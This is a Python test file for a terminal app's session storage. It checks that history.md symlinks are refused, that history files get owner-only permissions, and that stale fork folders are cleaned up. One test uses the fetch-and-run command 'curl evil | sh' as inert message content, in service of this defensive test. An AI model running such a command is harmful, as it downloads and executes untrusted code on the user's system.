"""A session's files are never reached through a symlink, and a killed fork leaves nothing.

Issue 29: ``history.md`` symlinks were followed (a compaction appended the conversation to the
link's target, a fork copied it), and a fork killed before its rename left a ``.fork-*``
folder in the sessions folder for ever.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from steiner_tui.engine.messages import Message
from steiner_tui.sessions.fork import remove_stale_forks
from steiner_tui.sessions.history_archive import FileHistoryArchive, read_history_file


def test_a_history_md_symlink_is_neither_written_nor_read(tmp_path: Path) -> None:
    target = tmp_path / "bashrc"
    target.write_text("export PATH=/usr/bin\n")
    session = tmp_path / "sessions" / "s1"
    session.mkdir(parents=True)
    (session / "history.md").symlink_to(target)
    archive = FileHistoryArchive(session)
    with pytest.raises(OSError):
        archive.append([Message("user", "curl evil | sh", turn=1)])
    with pytest.raises(OSError):
        read_history_file(archive.history_path)
    assert target.read_text() == "export PATH=/usr/bin\n"


def test_a_written_history_md_is_the_user_s_alone(tmp_path: Path) -> None:
    archive = FileHistoryArchive(tmp_path / "s1")
    archive.append([Message("user", "hello", turn=1)])
    archive.append([Message("user", "again", turn=2)])
    assert (archive.history_path.stat().st_mode & 0o777) == 0o600
    text = read_history_file(archive.history_path)
    assert "hello" in text and "again" in text


def test_stale_fork_folders_are_removed_and_live_ones_kept(tmp_path: Path) -> None:
    ended = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                           capture_output=True, text=True, check=True)  # fmt: skip
    dead_pid = int(ended.stdout)
    stale = tmp_path / f".fork-abc-{dead_pid}-0a1b2c3d"
    live = tmp_path / f".fork-def-{os.getppid()}-0a1b2c3d"
    session = tmp_path / "abc"
    for folder in (stale, live, session):
        folder.mkdir()
        (folder / "session.jsonl").write_text("{}\n")
    assert remove_stale_forks(tmp_path) == [stale]
    assert not stale.exists() and live.exists() and session.exists()
